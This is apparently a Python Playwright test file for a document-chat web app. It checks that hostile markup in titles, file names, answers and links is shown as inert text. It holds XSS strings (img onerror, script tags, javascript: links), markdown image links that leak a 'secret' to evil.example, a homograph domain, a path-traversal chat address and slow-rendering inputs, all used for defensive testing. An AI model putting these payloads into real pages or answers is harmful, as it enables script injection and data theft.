"""Answers, titles, file names and passages of people who mean harm, and how they are shown."""

import httpx2
import pytest
from playwright.async_api import Page, expect

from tests.support.asking_in_browser import answered, ask
from tests.support.chat_knowledge import PORT, PORT_QUESTION
from tests.support.fake_openai import FakeOpenAI
from tests.support.openai_replies import text
from tests.support.uploads import ended, post_file, post_text

pytestmark = pytest.mark.browser

SCRIPT = '<img src=x onerror="document.title=1"><script>document.title=2</script>'
LINKS = {
    "[press](javascript:alert(1))": "[press](javascript:alert(1))",
    "[press](data:text/html,hi)": "press (data:text/html,hi)",
    "[press](//evil.example/)": "press (//evil.example/)",
    "[press](https://good.example@evil.example/)": "press (https://good.example@evil.example/)",
}
SHOWN = {
    "![pixel](https://evil.example/?q=secret)": "https://evil.example/?q=secret",
    "[bank.example](https://evil.example/)": "https://evil.example/",
    "https://b\u0430nk.example/": "https://xn--bnk-6cd.example/",
}
RENDER = """
async (text) => {
    const { MarkdownView } = await import(new URL("/assets/markdown.js", location).href);
    const place = document.createElement("div");
    const begun = performance.now();
    new MarkdownView(place, () => null).show(text);
    return [place.textContent, performance.now() - begun];
}
"""
STRUCTURE = """
async (text) => {
    const { MarkdownView } = await import(new URL("/assets/markdown.js", location).href);
    const whole = document.createElement("div");
    const grown = document.createElement("div");
    new MarkdownView(whole, () => null).show(text);
    const view = new MarkdownView(grown, () => null);
    for (let end = 1; end <= text.length; end += 1) view.show(text.slice(0, end));
    return [whole.innerHTML, grown.innerHTML];
}
"""
MARKDOWN = """# One

Some *words* and `a < b`, snake_case_name, 2 * 3 * 4.
Next line.

- first **bold**
  1. inner
- second

| a | b |
|---|---|
| 1 | `x` |

> quoted

```py
print("<b>")
```
***
"""
HTML = (
    "<h3>One</h3>"
    "<p>Some <em>words</em> and <code>a &lt; b</code>, snake_case_name, 2 * 3 * 4.\nNext line.</p>"
    '<ul><li>first <strong>bold</strong><ol start="1"><li>inner</li></ol></li><li>second</li></ul>'
    '<div class="table" tabindex="0"><table><thead><tr><th>a</th><th>b</th></tr></thead>'
    "<tbody><tr><td>1</td><td><code>x</code></td></tr></tbody></table></div>"
    "<blockquote><p>quoted</p></blockquote>"
    '<pre tabindex="0"><code>print("&lt;b&gt;")</code></pre><hr>'
)


class TestTexts:
    async def test_nothing_is_run(
        self, page: Page, client: httpx2.AsyncClient, fake_openai: FakeOpenAI
    ) -> None:
        """Markup of strangers is a text in every place where it is shown."""
        given = {"title": SCRIPT, "source": SCRIPT}
        document = await ended(client, await post_text(client, f"{PORT} {SCRIPT}", **given))
        await ended(client, await post_file(client, b"Geese.", name=f"{SCRIPT[:30]}.txt"))
        fake_openai.reply(text(f"{SCRIPT} [1]"))
        await page.goto(f"{client.base_url}/")
        await ask(page, f"{PORT_QUESTION} {SCRIPT}")
        answer = await answered(page)
        await expect(answer.locator(".prose")).to_contain_text(SCRIPT)
        await expect(answer.locator(".sources")).to_contain_text(SCRIPT)
        await page.get_by_role("link", name="Documents").click()
        await expect(page.locator("#documents")).to_contain_text(SCRIPT)
        assert await page.locator("main img, main script, nav img, nav script").count() == 0
        await page.goto(f"{client.base_url}/d/{document['uuid']}#passage=0")
        await expect(page.locator("mark")).to_contain_text(SCRIPT)
        assert await page.locator("body img, body script").count() == 0
        assert await page.title() == f"{SCRIPT} · bRAG"

    async def test_address_names_nothing_but_a_chat(
        self, page: Page, client: httpx2.AsyncClient
    ) -> None:
        """A link that names a document as if it were a chat opens a new chat, not its deletion."""
        document = await ended(client, await post_text(client, PORT, title="Ports"))
        await page.goto(f"{client.base_url}/#chat=../documents/{document['uuid']}")
        await expect(page.locator("#conversation .welcome")).to_be_visible()
        await expect(page.locator("#delete-chat")).to_be_hidden()
        await expect(page.locator("#chat-title")).to_have_text("New chat")

    async def test_links_lead_to_where_they_show(self, chat: Page, fake_openai: FakeOpenAI) -> None:
        """A link shows its address; what is no address of a page is no link; no image is loaded."""
        fake_openai.reply(text("\n\n".join([*LINKS, *SHOWN])))
        asked: list[str] = []
        chat.on("request", lambda sent: asked.append(sent.url))
        await ask(chat, PORT_QUESTION)
        answer = await answered(chat)
        links = answer.locator(".prose a")
        assert await links.all_text_contents() == list(SHOWN.values())
        for link in await links.all():
            assert await link.get_attribute("href") == await link.text_content()
            assert await link.get_attribute("rel") == "noreferrer"
        for told in LINKS.values():
            await expect(answer.locator(".prose")).to_contain_text(told)
        assert [url for url in asked if "example" in url] == []


class TestMarkdown:
    async def test_structure(self, page: Page, client: httpx2.AsyncClient) -> None:
        """A text is shown by its marks, and the same where it has come a character at a time."""
        await page.goto(f"{client.base_url}/login")
        whole, grown = await page.evaluate(STRUCTURE, MARKDOWN)
        assert whole == HTML
        assert grown == whole

    async def test_long_texts_take_little(self, page: Page, client: httpx2.AsyncClient) -> None:
        """A text that is made to be slow holds the page up no longer than others, and is whole."""
        await page.goto(f"{client.base_url}/login")
        for unit in (
            "*a **b _c ",
            "`",
            "`a``",
            "[",
            "[a](",
            "> ",
            "- ",
            "|",
            "![[",
            "\\",
            "#",
            "h",
        ):
            text = unit * (100_000 // len(unit))
            shown, milliseconds = await page.evaluate(RENDER, text)
            assert shown or unit in "> - `"
            assert milliseconds < 2_000, unit
